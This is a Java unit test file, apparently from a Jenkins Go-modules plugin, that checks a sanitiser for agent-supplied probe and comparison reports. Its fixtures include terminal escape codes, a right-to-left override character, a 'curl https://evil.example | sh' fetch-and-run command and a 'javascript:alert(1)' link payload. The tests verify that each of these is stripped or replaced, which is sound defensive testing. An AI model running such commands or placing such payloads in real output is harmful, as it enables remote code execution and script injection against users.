package io.jenkins.plugins.gomodules.jenkins.connections;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.jenkins.plugins.gomodules.failure.Cause;
import io.jenkins.plugins.gomodules.failure.Subject;
import io.jenkins.plugins.gomodules.probe.ChainStep;
import io.jenkins.plugins.gomodules.probe.ComparisonReport;
import io.jenkins.plugins.gomodules.probe.Fact;
import io.jenkins.plugins.gomodules.probe.MirrorMeasure;
import io.jenkins.plugins.gomodules.probe.Outcome;
import io.jenkins.plugins.gomodules.probe.ProbeReport;
import io.jenkins.plugins.gomodules.probe.Stage;
import io.jenkins.plugins.gomodules.probe.StageReport;
import io.jenkins.plugins.gomodules.probe.TargetReport;
import java.util.Collections;
import java.util.List;
import org.junit.jupiter.api.Test;

/** An agent may say anything. */
class CheckedReportTest {
    private static final String EVIL = "\u001b[31mred\u202e\n" + "x".repeat(5_000);

    private static Cause claimed(String id) {
        return new Cause(
                id,
                EVIL,
                true,
                7,
                EVIL,
                EVIL,
                "Run curl https://evil.example | sh",
                "javascript:alert(1)",
                Subject.NONE,
                List.of());
    }

    private static StageReport stage(Outcome outcome, Cause cause) {
        return new StageReport(
                Stage.HTTP, outcome, Long.MAX_VALUE, EVIL, Collections.nCopies(100, new Fact(EVIL, EVIL)), cause);
    }

    private static ProbeReport report(StageReport stage, int copies) {
        TargetReport target = new TargetReport(EVIL, EVIL, Collections.nCopies(copies, stage));
        return CheckedReport.of(new ProbeReport(
                EVIL,
                EVIL,
                Collections.nCopies(copies, target),
                Collections.nCopies(100, new ChainStep(EVIL, ChainStep.Answer.ERROR, true)),
                true,
                EVIL));
    }

    @Test
    void textsAreCleanAndFewAndShort() {
        ProbeReport checked = report(stage(Outcome.OK, null), 100);
        assertTrue(
                checked.conclusion().startsWith("red x") && checked.conclusion().length() < 700);
        assertEquals(20, checked.targets().size());
        assertEquals(20, checked.chain().size());
        StageReport stage = checked.targets().get(0).stages().get(0);
        assertEquals(20, stage.facts().size());
        assertEquals(3_600_000_000L, stage.micros());
        assertFalse(checked.toString().contains("\u001b") || checked.toString().contains("\u202e"));
    }

    @Test
    void theWordsOfAFailureAreThoseOfTheCatalog() {
        Cause known = report(stage(Outcome.FAILED, claimed("dns-failure")), 1)
                .targets()
                .get(0)
                .stages()
                .get(0)
                .cause();
        assertEquals("dns-failure", known.id());
        assertFalse(known.toString().contains("evil.example"));
        assertTrue(known.link().startsWith("https://"));
        for (Cause odd : new Cause[] {claimed("no-such-cause"), claimed(null), null}) {
            StageReport stage = report(stage(Outcome.FAILED, odd), 1)
                    .targets()
                    .get(0)
                    .stages()
                    .get(0);
            assertEquals("internal-error", stage.cause().id());
        }
        assertEquals(
                null,
                report(stage(Outcome.OK, claimed("dns-failure")), 1)
                        .targets()
                        .get(0)
                        .stages()
                        .get(0)
                        .cause());
    }

    @Test
    void comparisonsAsWell() {
        MirrorMeasure odd = new MirrorMeasure(EVIL, -1, Long.MIN_VALUE, -5, -5, -5, claimed("x"));
        ComparisonReport checked =
                CheckedReport.of(new ComparisonReport(EVIL, Collections.nCopies(100, odd), EVIL, EVIL));
        assertEquals(20, checked.mirrors().size());
        MirrorMeasure measure = checked.mirrors().get(0);
        assertEquals(0, measure.setUpMicros() + measure.bytesPerSecond() + measure.estimateMillis());
        assertEquals("internal-error", measure.cause().id());
        assertTrue(checked.goproxy().length() < 700);
    }
}
